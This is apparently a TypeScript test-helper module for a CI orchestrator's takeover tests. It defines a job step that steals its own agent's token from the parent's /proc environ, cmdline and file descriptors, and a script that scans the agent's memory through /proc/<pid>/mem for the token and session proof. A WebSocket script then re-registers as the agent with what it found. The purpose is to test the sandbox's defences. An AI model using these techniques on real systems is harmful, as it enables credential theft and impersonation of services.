import { Writable } from 'node:stream';
import { pino } from 'pino';
import { NODE } from './orchestrator.js';

/**
 * A job step that turns on its own agent: it looks for the agent's token where a process can read
 * another's secrets (its parent's /proc entries, the files it can reach, its own environment) and
 * registers as that agent with the raw protocol, claiming it has run nothing. Shared by the
 * takeover tests of every confinement, so each attacks the same way.
 */

/** An agent token as minted: `kici_` and 32 random bytes in base64url. */
export const TOKEN_RE = /kici_[A-Za-z0-9_-]{43}/;

/**
 * Registers as the step's agent with whatever token the search found, and prints how the
 * orchestrator answered. Self-contained (Node's own WebSocket, no import) and handed over in the
 * environment, so it runs wherever the step does: a sandbox's private /tmp or another uid cannot
 * hide it.
 */
const ATTACK = `
const ws = new WebSocket(process.env.ATTACK_URL);
ws.onopen = () => ws.send(JSON.stringify({ type: 'register', protocol: 1, agentId: process.env.KICI_AGENT_ID,
  token: process.env.ATTACK_TOKEN, session: process.env.ATTACK_SESSION,
  labels: (process.env.ATTACK_LABELS ?? '').split(',').filter(Boolean), jobsDone: 0 }));
ws.onmessage = (e) => console.log('attack got ' + JSON.parse(String(e.data)).type);
ws.onerror = () => console.log('attack error');
ws.onclose = (e) => { console.log('attack closed ' + e.code); process.exit(0); };
`;

/**
 * The step: search the parent (the agent) for a token, then use whatever it found. The `thief saw`
 * line shows the search reached the real agent (its environment names its id, its descriptors are
 * listed), so a token there would have been found: a step that silently looked nowhere cannot pass.
 */
export const THIEF_STEP = [
  'agent_env=$(tr "\\0" "\\n" < /proc/$PPID/environ 2>/dev/null | grep -c "^KICI_AGENT_ID=$KICI_AGENT_ID$")',
  'echo "thief saw: agent-env=$agent_env fds=$(ls /proc/$PPID/fd 2>/dev/null | wc -l)"',
  'found=$( { tr "\\0" "\\n" < /proc/$PPID/environ; tr "\\0" "\\n" < /proc/$PPID/cmdline; env;',
  '  for f in /proc/$PPID/fd/*; do [ -f "$f" ] && head -c 65536 "$f"; done;',
  '  grep -rhoa "kici_[A-Za-z0-9_-]*" . 2>/dev/null; } 2>/dev/null | grep -oE "kici_[A-Za-z0-9_-]{43}" | head -n1 )',
  'echo "thief found: ${found:-nothing}"',
  'ATTACK_TOKEN="${found:-none}" "$ATTACK_NODE" -e "$ATTACK_SRC"',
].join('\n');

/**
 * Reads the memory of the process AGENT_PID through /proc/<pid>/mem and prints the first agent
 * token and session proof in it (`none` for each it did not find, or when the kernel refuses). A
 * same-uid process may do this unless a security module (Yama's ptrace_scope) or a non-dumpable
 * target forbids it: the agent keeps both in memory to reconnect, and runs non-dumpable for that
 * reason (unless KICI_AGENT_SEAL=off, or it may read any file).
 */
export const MEMORY_SCAN = `
const fs = require('node:fs');
const pid = process.env.AGENT_PID;
let maps, fd, token, proof;
try {
  maps = fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n');
  fd = fs.openSync('/proc/' + pid + '/mem', 'r');
} catch (e) { console.error('memory thief: ' + e.code); maps = []; }
// In slices with an overlap (a secret may straddle two), so a small guest's memory is enough.
const SLICE = 1 << 20, OVERLAP = 64;
const buf = Buffer.alloc(SLICE + OVERLAP);
for (const line of maps) {
  const [range, perms] = line.split(' ');
  if (!range || !perms.startsWith('r')) continue;
  const [a, b] = range.split('-').map((x) => parseInt(x, 16));
  for (let at = a; at < b && !(token && proof); at += SLICE) {
    const len = Math.min(SLICE + OVERLAP, b - at);
    let n;
    try { n = fs.readSync(fd, buf, 0, len, at); } catch { break; }
    const text = buf.toString('latin1', 0, n);
    token ??= text.match(/kici_[A-Za-z0-9_-]{43}/)?.[0];
    proof ??= text.match(/kses_[A-Za-z0-9_-]{43}/)?.[0];
  }
}
console.log((token ?? 'none') + ' ' + (proof ?? 'none'));
`;

/**
 * A sharper thief: the agent's token and session proof from the agent's memory, and its labels
 * from its environment. It registers with the token alone, then with the proof too, and prints
 * what it found, never the secrets themselves.
 */
export const MEMORY_THIEF_STEP = [
  'set -- $(AGENT_PID=$PPID "$ATTACK_NODE" -e "$MEMORY_SCAN_SRC")',
  'got() { if [ "$1" = none ]; then echo no; else echo yes; fi; }',
  'echo "memory thief found: token=$(got "$1") proof=$(got "$2")"',
  'export ATTACK_LABELS="$(tr "\\0" "\\n" < /proc/$PPID/environ | sed -n "s/^KICI_LABELS=//p")"',
  'ATTACK_TOKEN="$1" "$ATTACK_NODE" -e "$ATTACK_SRC"',
  'if [ "$2" != none ]; then ATTACK_TOKEN="$1" ATTACK_SESSION="$2" "$ATTACK_NODE" -e "$ATTACK_SRC"; fi',
].join('\n');

/** The thief job's environment: where to attack, and with what. */
export function thiefEnv(wsUrl: string): Record<string, string> {
  return { ATTACK_NODE: NODE, ATTACK_SRC: ATTACK, ATTACK_URL: wsUrl, MEMORY_SCAN_SRC: MEMORY_SCAN };
}

/** An orchestrator logger whose lines the test reads back, parsed and raw. */
export function logSink() {
  const lines: { level: number; msg: string; agentId?: string; securityEvent?: string }[] = [];
  const raw: string[] = [];
  const sink = new Writable({
    write(chunk, _enc, done) {
      for (const l of String(chunk).split('\n'))
        if (l) {
          raw.push(l);
          lines.push(JSON.parse(l));
        }
      done();
    },
  });
  return { lines, raw, logger: pino({ level: 'info' }, sink) };
}
